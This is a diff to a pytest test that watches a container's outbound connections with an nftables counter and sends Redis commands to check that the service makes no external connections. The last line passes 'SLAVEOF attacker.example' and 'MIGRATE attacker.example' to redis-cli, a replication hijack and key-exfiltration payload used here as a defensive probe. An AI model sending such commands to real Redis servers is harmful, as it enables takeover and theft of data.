@@ -283,9 +283,14 @@ def test_redis_may_ask_for_a_password(services: Visited) -> None:
 @pytest.mark.netns
 def test_no_service_opens_a_connection_or_asks_for_a_name(services: Visited) -> None:
     enter = ["nsenter", f"--net={services.container.network_namespace}", "nft"]
-    watch = """table inet watch { chain out { type filter hook output priority filter;
-      meta l4proto { tcp, udp } ct state new ip daddr != 127.0.0.1 counter
-      oifname != "lo" meta nfproto ipv6 meta l4proto { tcp, udp } ct state new counter } }"""
+    watch = """
+      table inet watch {
+        chain out {
+          type filter hook output priority filter;
+          meta l4proto { tcp, udp } ct state new ip daddr != 127.0.0.1 counter
+          oifname != "lo" meta nfproto ipv6 meta l4proto { tcp, udp } ct state new counter
+        }
+      }"""
     subprocess.run([*enter, "-f", "-"], input=watch, text=True, check=True)
     address = services.container.address
     run("redis-cli", "-h", address, said="SLAVEOF attacker.example 6379\nMIGRATE attacker.example 6379 k 0 9\n")
